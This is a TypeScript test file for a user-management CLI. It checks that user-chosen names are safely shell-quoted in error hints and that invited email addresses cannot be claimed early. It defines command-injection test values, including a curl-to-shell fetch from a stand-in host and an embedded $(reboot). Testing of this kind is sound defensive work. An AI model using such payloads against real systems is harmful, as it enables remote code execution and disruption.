import { groupCreate } from '../../src/operations/group/create.ts';
import { meEdit } from '../../src/operations/me/edit.ts';
import { peopleAdd } from '../../src/operations/people/add.ts';
import { peopleInvite } from '../../src/operations/people/invite.ts';
import { roleNew } from '../../src/operations/role/new.ts';
import { serviceAccountCreate } from '../../src/operations/service-account/create.ts';
import { tokenCreate } from '../../src/operations/token/create.ts';
import { tokenRevoke } from '../../src/operations/token/revoke.ts';
import { coreBox } from '../support/core.ts';
import type { CoreBox } from '../support/core.ts';
import { errorOf } from '../support/outside.ts';

/** Names chosen by somebody are harmless to people who paste a hint or write to an address. */

let box: CoreBox;
let eve: string;
beforeEach(async () => {
  box = await coreBox();
  await box.call(peopleAdd, { people: [{ email: 'eve@acme.example' }] });
  eve = await box.tokenOf('eve');
});
afterEach(() => box.destroy());

const HOSTILE = 'm;curl${IFS}evil.example|sh';
const NAME = "it's $(reboot) `here`";
const hintOf = async (work: Promise<unknown>): Promise<string | undefined> => (await errorOf(work))?.hint;

test('a username in a hint is one shell word', async () => {
  await box.call(meEdit, { username: HOSTILE }, eve);
  expect(await hintOf(box.call(peopleAdd, { people: [{ email: 'eve@acme.example' }] }))).toBe(
    `roster people show '${HOSTILE}'`,
  );
  expect(await hintOf(box.call(tokenRevoke, { token: 'nothing', person: HOSTILE }))).toBe(
    `roster token list --person '${HOSTILE}'`,
  );
});

test.each<[string, () => Promise<unknown>, string]>([
  ['group', () => box.call(groupCreate, { name: NAME }), 'roster group show '],
  ['role', () => box.call(roleNew, { name: NAME, permissions: [] }), 'roster role show '],
  ['service account', () => box.call(serviceAccountCreate, { name: NAME }), 'roster service-account show '],
  ['token', () => box.call(tokenCreate, { name: NAME }), 'choose another name, or replace it: roster token reset '],
])('the name of a %s is one shell word as well', async (_what, make, before) => {
  await make();
  expect(await hintOf(make())).toContain(`${before}'it'\\''s $(reboot) \`here\`'`);
});

test('nobody can set their address to an invited one', async () => {
  await box.call(peopleInvite, { people: [{ email: 'boss@acme.example' }], role: 'Admin' });
  expect(await box.refusal(box.call(meEdit, { email: 'Boss@acme.example' }, eve))).toBe('conflict');
  expect((await box.personOf('eve')).email).toBe('eve@acme.example');
  box.clock.now += 8 * 24 * 60 * 60 * 1000;
  expect((await box.call(meEdit, { email: 'boss@acme.example' }, eve)).email).toBe('boss@acme.example');
});
